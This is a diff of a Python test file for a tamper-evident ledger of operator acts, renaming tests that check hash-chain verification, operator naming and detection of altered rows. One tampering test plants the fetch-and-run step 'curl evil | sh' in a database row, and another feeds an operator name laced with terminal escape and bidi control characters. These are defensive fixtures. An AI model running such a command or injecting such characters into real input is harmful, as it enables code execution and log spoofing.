@@ -1,4 +1,4 @@
-"""The chain of acts: who did what, and whether the record was changed since."""
+"""The chain of acts: who did what, and detection of changed rows."""
 
 from __future__ import annotations
 
@@ -26,7 +26,7 @@ def change(file: Path, statement: str) -> None:
     connection.close()
 
 
-def test_a_run_is_begun_and_resumed_by_a_named_operator(url: str, begin: Begin):
+def test_acts_name_the_operators_of_a_run(url: str, begin: Begin):
     with Ledger.open(url, operator=operator_here("Ada")) as ledger:
         begin(ledger)
     with Ledger.open(url, operator=operator_here("Bob")) as ledger:
@@ -49,7 +49,7 @@ def test_a_run_is_begun_and_resumed_by_a_named_operator(url: str, begin: Begin):
         ("Ada\x1b[2J\u202e\nroot", {}, "Ada root"),
     ],
 )
-def test_an_operator_is_named_by_flag_variable_or_login(named: str, environ: dict[str, str], expected: str):
+def test_operator_comes_from_flag_variable_or_login(named: str, environ: dict[str, str], expected: str):
     assert operator_here(named, environ).name == expected
 
 
@@ -67,9 +67,7 @@ def test_an_operator_is_named_by_flag_variable_or_login(named: str, environ: dic
         ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
     ],
 )
-def test_verify_names_the_first_row_that_was_changed(
-    url: str, file: Path, begin: Begin, statement: str, problem: str
-):
+def test_verify_names_first_changed_row(url: str, file: Path, begin: Begin, statement: str, problem: str):
     with Ledger.open(url) as ledger:
         for run in ("r1", "r2", "r3"):
             begin(ledger, run)
@@ -78,7 +76,7 @@ def test_verify_names_the_first_row_that_was_changed(
         assert problem in ledger.verify_acts().problem
 
 
-def test_a_chain_that_was_cut_does_not_contain_the_noted_head(url: str, file: Path):
+def test_truncated_chain_lacks_noted_head(url: str, file: Path):
     with Ledger.open(url) as ledger:
         ledger.record_act("trust", "web1")
         ledger.record_act("trust", "web2")
@@ -90,7 +88,7 @@ def test_a_chain_that_was_cut_does_not_contain_the_noted_head(url: str, file: Pa
         assert "noted hash" in ledger.verify_acts(head).problem
 
 
-def test_a_run_whose_order_was_changed_is_neither_resumed_nor_read(url: str, file: Path, begin: Begin):
+def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
     with Ledger.open(url) as ledger:
         begin(ledger)
     change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
@@ -102,7 +100,7 @@ def test_a_run_whose_order_was_changed_is_neither_resumed_nor_read(url: str, fil
         assert [act.act for act in ledger.list_acts()] == ["run"]
 
 
-def test_a_run_that_was_smuggled_in_without_an_act_is_not_resumed(url: str, file: Path, begin: Begin):
+def test_run_without_act_is_not_resumed(url: str, file: Path, begin: Begin):
     with Ledger.open(url) as ledger:
         begin(ledger)
     change(file, "DELETE FROM acts")
@@ -110,7 +108,7 @@ def test_a_run_that_was_smuggled_in_without_an_act_is_not_resumed(url: str, file
         ledger.reopen_run("r1")
 
 
-def test_an_older_ledgers_runs_are_adopted_and_can_be_resumed(tmp_path: Path):
+def test_runs_of_older_ledger_are_adopted(tmp_path: Path):
     file = tmp_path / "old.db"
     file.touch()
     engine = _engine(file, "mode=rw")
@@ -134,7 +132,7 @@ def _write(url: str, count: int) -> None:
             ledger.record_act("trust", f"host {number}")
 
 
-def test_acts_of_several_processes_are_one_chain(url: str):
+def test_concurrent_processes_write_one_chain(url: str):
     Ledger.open(url).close()
     context = get_context("spawn")
     writers = [context.Process(target=_write, args=(url, 20)) for _ in range(3)]
